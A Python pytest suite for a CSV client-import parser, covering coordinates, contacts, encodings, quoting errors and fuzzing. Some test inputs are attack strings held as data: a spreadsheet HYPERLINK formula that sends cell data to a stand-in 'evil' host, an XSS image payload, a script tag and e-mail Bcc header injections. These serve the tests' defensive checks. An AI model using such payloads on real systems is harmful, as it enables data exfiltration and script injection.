"""A CSV file of clients is read row by row; every bad row says its line, its column and what is wrong."""

import csv
import io
import time
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fieldsvc.core.errors import Invalid
from fieldsvc.domain.clients.csv_rows import MOST_ROWS, ClientRow, Problem, decode, read_rows

HEADER = "reference,name,category,address,postcode,city,latitude,longitude"
LONG_HEADER = f"{HEADER},kind,contact_name,email,phone,access_notes"
ROW = "A-1,Padaria,shop,Rua da Boavista 453,4050-107,Porto,41.156093,-8.618624"
PORTO_SITES = Path(__file__).parents[4] / "shared" / "data" / "porto_sites.csv"


def written(*rows: list[str], header: str = LONG_HEADER, separator: str = ",") -> str:
    """The rows as a spreadsheet writes them."""
    text = io.StringIO()
    writer = csv.writer(text, delimiter=separator)
    writer.writerows([header.split(","), *rows])
    return text.getvalue()


def cells(**changed: str) -> list[str]:
    """A good row with some cells changed."""
    usual = {
        "reference": "A-1",
        "name": "Padaria",
        "category": "shop",
        "address": "Rua da Boavista 453",
        "postcode": "4050-107",
        "city": "Porto",
        "latitude": "41.156093",
        "longitude": "-8.618624",
    }
    return [{**usual, **changed}.get(column, "") for column in LONG_HEADER.split(",")]


def problems_of(**changed: str) -> list[tuple[str, str]]:
    """What is wrong with one row with these cells."""
    sheet = read_rows(written(cells(**changed)))
    assert not sheet.rows
    assert {problem.line for problem in sheet.problems} == {2}
    return [(problem.column, problem.reason) for problem in sheet.problems]


# --- Good rows ----------------------------------------------------------------------------------------


def test_a_row_becomes_a_client_with_a_place() -> None:
    sheet = read_rows(f"{HEADER}\n{ROW}\n")

    assert sheet.problems == []
    assert sheet.rows == [
        ClientRow(
            line=2,
            reference="A-1",
            name="Padaria",
            kind="company",
            category="shop",
            address="Rua da Boavista 453",
            postcode="4050-107",
            city="Porto",
            location=(41.156093, -8.618624),
            access_notes="",
            contact_name="",
            email=None,
            phone=None,
        )
    ]


def test_email_and_phone_come_in_their_normal_form() -> None:
    changed = cells(kind="Individual", contact_name="Ana Reis", email=" Ana@Client.Example ", phone="912 345 678")
    [row] = read_rows(written(changed)).rows

    assert (row.kind, row.contact_name, row.email, row.phone) == (
        "individual",
        "Ana Reis",
        "ana@client.example",
        "+351912345678",
    )
    assert row.has_contact


def test_a_row_may_have_no_coordinates() -> None:
    [row] = read_rows(written(cells(latitude="", longitude=""))).rows
    assert row.location is None


def test_formulas_and_markup_are_only_text() -> None:
    [row] = read_rows(
        written(cells(name='=HYPERLINK("http://evil/?"&A1)', category="<img src=x onerror=alert(1)>"))
    ).rows
    assert row.name == '=HYPERLINK("http://evil/?"&A1)'
    assert row.category == "<img src=x onerror=alert(1)>"


def test_an_accent_written_in_two_parts_is_one_letter() -> None:
    [row] = read_rows(written(cells(name="Cafe\u0301"))).rows
    assert row.name == "Café"


def test_access_notes_may_have_several_lines() -> None:
    [row] = read_rows(written(cells(access_notes="Bell\nis broken"))).rows
    assert row.access_notes == "Bell\nis broken"


@pytest.mark.parametrize("ending", ["\n", "\r\n", "\r"])
def test_every_line_ending_is_read(ending: str) -> None:
    assert [row.line for row in read_rows(ending.join((HEADER, ROW, ""))).rows] == [2]


def test_semicolons_and_decimal_commas_of_a_spreadsheet_are_read() -> None:
    text = written(cells(latitude="41,156", longitude="-8,6186"), separator=";")
    [row] = read_rows(text).rows
    assert row.location == (41.156, -8.6186)


def test_tabs_are_read() -> None:
    assert len(read_rows(written(cells(), separator="\t")).rows) == 1


def test_column_names_may_be_in_any_order_and_case() -> None:
    header = "City,LONGITUDE, Reference ,name,category,address,postcode,latitude"
    [row] = read_rows(f"{header}\nPorto,-8.6,A-1,Padaria,,Rua 1,,41.1\n").rows
    assert (row.reference, row.city, row.location) == ("A-1", "Porto", (41.1, -8.6))


def test_unknown_columns_are_named_and_otherwise_ignored() -> None:
    sheet = read_rows(f"{HEADER},fax\n{ROW},123\n")
    assert sheet.ignored_columns == ["fax"]
    assert len(sheet.rows) == 1


def test_empty_lines_count_and_are_passed_over() -> None:
    sheet = read_rows(f"{HEADER}\n\n,,,,,,,\n{ROW}\n")
    assert [row.line for row in sheet.rows] == [4]
    assert sheet.problems == []


# --- Bad cells ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("column", ["reference", "name", "address"])
def test_a_needed_cell_may_not_be_empty(column: str) -> None:
    assert problems_of(**{column: "  "}) == [(column, "is empty")]


@pytest.mark.parametrize(
    ("latitude", "longitude", "column", "reason"),
    [
        ("912", "-8.6", "latitude", "912 is not between -90 and 90"),
        ("41.1", "-181", "longitude", "-181 is not between -180 and 180"),
        ("north", "-8.6", "latitude", "“north” is no number of degrees such as 41.1561"),
        ("nan", "-8.6", "latitude", "“nan” is no number of degrees such as 41.1561"),
        ("inf", "-8.6", "latitude", "“inf” is no number of degrees such as 41.1561"),
        ("4e1", "-8.6", "latitude", "“4e1” is no number of degrees such as 41.1561"),
        ("4_1", "-8.6", "latitude", "“4_1” is no number of degrees such as 41.1561"),
        ("٤١", "-8.6", "latitude", "“٤١” is no number of degrees such as 41.1561"),
        ("41,1", "-8.6", "latitude", "“41,1” is no number of degrees such as 41.1561"),
        ("41.1", "", "longitude", "is empty: give both coordinates, or none"),
        ("", "-8.6", "latitude", "is empty: give both coordinates, or none"),
        ("0", "0.0", "latitude", "0, 0 lies in the sea: leave both empty when the place is not known"),
    ],
)
def test_a_wrong_coordinate_says_what_is_wrong(latitude: str, longitude: str, column: str, reason: str) -> None:
    assert problems_of(latitude=latitude, longitude=longitude) == [(column, reason)]


@pytest.mark.parametrize(
    "address",
    ["ana.client.example", "ana@", "@client.example", "a@b", "a@client.example,b@client.example", "a@x.example\tBcc:b"],
)
def test_what_is_no_email_is_refused(address: str) -> None:
    [(column, reason)] = problems_of(email=address)
    assert column == "email"
    assert reason.endswith("is no e-mail address")


@pytest.mark.parametrize("number", ["12", "call me", "-31612345678", "9.12E+08", "tel:+31;ext=<script>", "9" * 60])
def test_what_is_no_phone_number_is_refused(number: str) -> None:
    [(column, reason)] = problems_of(phone=number)
    assert column == "phone"
    assert reason.endswith("is no phone number such as +351 912 345 678")


def test_an_unknown_kind_is_refused() -> None:
    assert problems_of(kind="friend") == [("kind", "“friend” is none of company, individual, supplier")]


@pytest.mark.parametrize("character", ["\x00", "\x01", "\x0b", "\x7f", "\x9f", "\u202e", "\u200b", "\ufeff"])
def test_an_invisible_character_inside_a_text_is_refused(character: str) -> None:
    assert problems_of(name=f"Pada{character}ria") == [("name", f"has the invisible character U+{ord(character):04X}")]


def test_a_line_break_inside_an_address_is_refused() -> None:
    assert problems_of(address="Straße 1, \r\nBcc: x") == [("address", "has a line break")]


@pytest.mark.parametrize(
    ("column", "most"), [("reference", 64), ("name", 200), ("address", 300), ("postcode", 20), ("access_notes", 2000)]
)
def test_a_text_that_is_too_long_is_refused(column: str, most: int) -> None:
    assert len(read_rows(written(cells(**{column: "x" * most}))).rows) == 1
    assert problems_of(**{column: "x" * (most + 1)}) == [
        (column, f"has {most + 1} characters, at most {most} are kept")
    ]


def test_every_wrong_cell_of_a_row_is_reported() -> None:
    found = problems_of(address="", latitude="912", email="ana", phone="12")
    assert [column for column, _reason in found] == ["address", "latitude", "email", "phone"]


def test_a_reference_that_comes_twice_names_the_first_line() -> None:
    sheet = read_rows(written(cells(), cells(reference="A-2"), cells()))
    assert [row.reference for row in sheet.rows] == ["A-1", "A-2"]
    assert sheet.problems == [Problem(4, "reference", "“A-1” is on line 2 already")]


# --- Bad lines and files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "words"),
    [("A-1,Padaria", "has 2 cells, the first line has 8"), (f"{ROW},more", "has 9 cells, the first line has 8")],
)
def test_a_wrong_number_of_cells_is_reported(line: str, words: str) -> None:
    sheet = read_rows(f"{HEADER}\n{line}\n{ROW}\n")
    assert sheet.problems == [Problem(2, "", words)]
    assert len(sheet.rows) == 1


def test_a_quotation_mark_that_is_never_closed_names_its_line() -> None:
    sheet = read_rows(f'{HEADER}\n{ROW}\nA-2,"Padaria,shop\n{ROW}\n')
    assert [row.reference for row in sheet.rows] == ["A-1"]
    assert sheet.problems == [Problem(3, "", "a quotation mark is opened here and never closed")]


def test_a_misplaced_quotation_mark_spoils_only_its_line() -> None:
    sheet = read_rows(f'{HEADER}\nA-2,"Padaria"s,,Rua,,,,\n{ROW}\n')
    assert [row.reference for row in sheet.rows] == ["A-1"]
    [problem] = sheet.problems
    assert (problem.line, "misplaced" in problem.reason) == (2, True)


@pytest.mark.parametrize("text", ["", "\n\n", ",,,\n"])
def test_an_empty_file_says_so(text: str) -> None:
    sheet = read_rows(text)
    assert sheet.rows == []
    assert [problem.reason for problem in sheet.problems] == ["the file is empty"]


def test_a_missing_column_is_named() -> None:
    sheet = read_rows(f"{HEADER.replace('latitude', 'lattitude')}\n{ROW}\n")
    [problem] = sheet.problems
    assert problem.line == 1
    assert problem.reason.startswith("the column latitude is missing")
    assert "“lattitude”" in problem.reason


def test_a_column_that_comes_twice_is_named() -> None:
    sheet = read_rows(f"{HEADER},name\n{ROW},x\n")
    assert sheet.problems == [Problem(1, "name", "this column comes more than once")]


def test_more_rows_than_one_import_takes_are_refused() -> None:
    header, line = f"{HEADER}\n", ",x,,y,,,,\n"
    sheet = read_rows(header + line * (MOST_ROWS + 2))
    assert sheet.problems[-1].reason == f"more than {MOST_ROWS} rows: split the file"


def test_utf8_is_read_with_or_without_its_mark() -> None:
    assert decode("é".encode()) == decode("é".encode("utf-8-sig")) == "é"


def test_other_encodings_are_refused_with_the_place() -> None:
    with pytest.raises(Invalid, match=r"Line 2 is not UTF-8: byte 8 of the file is 0xe9"):
        decode("name\nCaf\xe9".encode("latin-1").replace(b"Caf", b"Ca"))
    with pytest.raises(Invalid, match="UTF-16"):
        decode("name".encode("utf-16"))


@given(st.text())
def test_any_text_is_read_without_an_error(text: str) -> None:
    sheet = read_rows(text)
    assert sheet.rows or sheet.problems


@given(st.lists(st.lists(st.text(max_size=20), min_size=8, max_size=8), max_size=5))
def test_any_cells_are_either_a_row_or_a_problem(rows: list[list[str]]) -> None:
    sheet = read_rows(written(*rows, header=HEADER))
    filled = [row for row in rows if any(cell.strip() for cell in row)]
    bad = {problem.line for problem in sheet.problems}
    assert len(sheet.rows) + len(bad) == len(filled)
    assert not bad & {row.line for row in sheet.rows}


@given(st.binary())
def test_any_bytes_are_text_or_a_refusal(data: bytes) -> None:
    with suppress(Invalid):
        read_rows(decode(data))


def test_ten_thousand_rows_are_read_in_seconds() -> None:
    rows = [
        cells(reference=f"A-{n}", email=f"person{n}@client.example", phone=f"+351 91{n:07d}") for n in range(10_000)
    ]
    text = written(*rows)
    begun = time.process_time()
    sheet = read_rows(text)
    assert len(sheet.rows) == 10_000
    assert time.process_time() - begun < 10


@pytest.mark.skipif(not PORTO_SITES.exists(), reason="needs ../shared/data")
def test_the_real_sites_of_porto_have_no_problem() -> None:
    sheet = read_rows(decode(PORTO_SITES.read_bytes()))
    assert (len(sheet.rows), sheet.problems, sheet.ignored_columns) == (500, [], [])
